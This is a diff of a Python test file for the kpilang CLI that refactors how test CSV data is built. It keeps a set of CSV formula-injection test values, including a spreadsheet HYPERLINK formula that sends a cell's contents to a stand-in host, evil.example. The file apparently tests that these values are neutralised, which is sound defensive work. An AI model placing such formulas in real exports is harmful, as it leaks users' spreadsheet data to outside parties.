@@ -6,7 +6,6 @@ from __future__ import annotations
 
 import csv
 import io
-import shutil
 
 from click.testing import CliRunner
 from hypothesis import given, strategies as st
@@ -15,23 +14,14 @@ from kpilang.cli import main
 from kpilang.evaluate.report import inert_text
 
 from tests.conftest import NORMATIVE
+from tests.normative_managers import normative_data_with
 
 NAMES = {"m1": '=HYPERLINK("http://evil.example/?"&A1,"Click")', "m2": "+7 (999) 123", "m3": "-2+3",
          "m4": "@SUM(A1:A9)"}
 
 
 def _rows(tmp_path) -> list[dict[str, str]]:
-    data = tmp_path / "data"
-    shutil.copytree(NORMATIVE / "data", data)
-    path = data / "managers.csv"
-    with open(path, encoding="utf-8", newline="") as f:
-        rows = list(csv.DictReader(f))
-    for row in rows:
-        row["name"] = NAMES.get(row["id"], row["name"])
-    with open(path, "w", encoding="utf-8", newline="") as f:
-        writer = csv.DictWriter(f, fieldnames=list(rows[0]), lineterminator="\n")
-        writer.writeheader()
-        writer.writerows(rows)
+    data = normative_data_with(tmp_path / "data", names=NAMES)
     plan = tmp_path / "plan.kpi"
     plan.write_text((NORMATIVE / "cold_sales.kpi").read_text(encoding="utf-8").replace(
         'pay total "Итого к выплате" =\n    salary + bonus + commission',
